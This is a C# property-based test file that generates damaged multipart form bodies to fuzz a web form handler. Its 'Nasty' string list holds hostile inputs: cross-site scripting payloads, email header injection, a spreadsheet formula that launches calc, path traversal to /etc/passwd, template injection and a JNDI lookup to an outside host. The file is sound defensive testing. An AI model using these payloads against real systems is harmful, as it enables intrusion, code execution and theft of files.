using System.Text;
using FsCheck;
using FsCheck.Fluent;
using Kakehashi.Content.Forms;

namespace Kakehashi.Forms.Tests.Setting;

/// <summary>A request body as nobody's browser sends it.</summary>
/// <param name="Address">Where it is sent.</param>
/// <param name="ContentType">As sent, not checked by the client.</param>
internal sealed record BadBody(string Address, string ContentType, byte[] Bytes)
{
    private const string Boundary = "----x7";

    /// <summary>Texts that break out of something somewhere: HTML, headers, paths, spreadsheets, encodings.</summary>
    private static readonly string[] Nasty =
    [
        "", "\0", "\r\nBcc: victim@example.jp", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'--><svg/onload=alert(1)>", "</textarea><script>1</script>",
        "=cmd|'/c calc'!A1", "+1+1", "@SUM(A1)", "../../../../etc/passwd", "..\\..\\keys.json", "%00%0d%0a", "{{7*7}}", "${jndi:ldap://x.example}", "\uFEFF", "\u202Egpj.exe",
        "ＡＢＣ＜script＞", "髙﨑𠮷野家", "ﾔﾏﾀﾞ", "true", "null", "[[[[[[[[", "{\"a\":", "K7QM-3FPX-9WDT", "taro@example.jp", "taro@example.jp\r\nTo: x@example.jp", "2026-13-45", "999999999999999999999", "-1", "1e309",
    ];

    private static readonly string[] Names =
    [
        .. Inquiry.Fields.Keys, "a.person.kana", "a.telephone", "a.organisation", "a.unknown", "a.", "a", "", "a.contacts.0.email", "a.contacts.2147483647.email", "a.contacts.99999999999999.email", "a.participants.-1.x",
        "u.files", "u.unknown", "u.", "f.files", "f.unknown", "f.", FieldNames.Step, FieldNames.Token, FieldNames.Ticket, FieldNames.Trap, "__proto__", "a.person", "a.person.name.more",
    ];

    private static readonly string[] Steps = ["confirm", "send", "edit", "add:contacts", "add:", "remove:contacts.0", "remove:contacts.99999999999", "remove:.", "drop:x", "drop:kept:x", "SEND", ""];

    private static readonly Gen<string> Text = Gen.OneOf(
        Gen.Elements(Nasty), ArbMap.Default.GeneratorFor<string>().Select(text => text ?? ""), Gen.Elements(Nasty).Two().Select(two => two.Item1 + two.Item2), Gen.Choose(0, 6_000).Select(length => new string('あ', length)));

    private static readonly Gen<(string Name, string Value, string? File, byte[]? Raw)> Part = Gen.OneOf(
        from name in Gen.Elements(Names) from value in Text select (name, value, (string?)null, (byte[]?)null),
        from step in Gen.Elements(Steps) select (FieldNames.Step, step, (string?)null, (byte[]?)null),
        from name in Text from value in Text select (name, value, (string?)null, (byte[]?)null),
        from name in Gen.Elements(Names) from value in Text from file in Text select (name, "%PDF-" + value, (string?)file, (byte[]?)null),
        from name in Gen.Elements(Names) from raw in ArbMap.Default.GeneratorFor<byte[]>() select (name, "", (string?)null, (byte[]?)raw));

    private static readonly Gen<byte[]> Multipart =
        from given in Gen.Elements(true, false)
        from parts in Part.ListOf()
        from end in Gen.Elements($"--{Boundary}--\r\n", $"--{Boundary}", "", "\r\n", $"--{Boundary}--{Boundary}")
        select Write([.. given ? Inquiry.Fields.Select(field => (field.Key, field.Value, (string?)null, (byte[]?)null)) : [], .. parts], end);

    private static readonly Gen<byte[]> Damaged = Gen.OneOf(
        Multipart,
        Multipart.SelectMany(body => Gen.Choose(0, body.Length).Select(length => body[..length])),
        Multipart.SelectMany(body => Gen.Choose(0, Math.Max(0, body.Length - 1)).SelectMany(at => Gen.Choose(0, 255).Select(value => Changed(body, at, (byte)value)))),
        Multipart.Select(body => Encoding.Unicode.GetBytes(Encoding.UTF8.GetString(body))),
        Multipart.Select(body => Encoding.UTF8.GetBytes(Encoding.UTF8.GetString(body).Replace("\r\n", "\n", StringComparison.Ordinal))),
        Multipart.Select(body => (byte[])[.. body, .. body]),
        ArbMap.Default.GeneratorFor<byte[]>());

    public static Gen<BadBody> Generator { get; } =
        from address in Gen.Frequency((8, Gen.Constant(Inquiry.Address)), (2, Gen.Elements("/forms/join/", "/forms/my/", "/forms/verify/", "/forms/seed/", "/forms/contact/x/", "/forms/nothing/", "/forms/t/x/", "/forms/")))
        from type in Gen.Frequency((9, Gen.Constant($"multipart/form-data; boundary={Boundary}")), (1, Gen.Elements(
            "multipart/form-data", "multipart/form-data; boundary=", $"multipart/form-data; boundary=\"{Boundary}\"", $"multipart/mixed; boundary={Boundary}", "application/x-www-form-urlencoded", "application/json", "text/plain;charset=utf-7",
            $"multipart/form-data; boundary={new string('b', 300)}", $"MULTIPART/FORM-DATA; BOUNDARY={Boundary}; charset=shift_jis", "nonsense")))
        from body in Damaged
        select new BadBody(address, type, body);

    private static byte[] Write(IEnumerable<(string Name, string Value, string? File, byte[]? Raw)> parts, string end)
    {
        using var body = new MemoryStream();
        foreach (var (name, value, file, raw) in parts)
        {
            var fileName = file is null ? "" : $"; filename=\"{file}\"";
            body.Write(Encoding.UTF8.GetBytes($"--{Boundary}\r\nContent-Disposition: form-data; name=\"{name}\"{fileName}\r\n\r\n"));
            body.Write(raw ?? Encoding.UTF8.GetBytes(value));
            body.Write("\r\n"u8);
        }
        body.Write(Encoding.UTF8.GetBytes(end));
        return body.ToArray();
    }

    private static byte[] Changed(byte[] body, int at, byte value)
    {
        byte[] changed = [.. body];
        if (changed.Length > 0) changed[at] = value;
        return changed;
    }
}
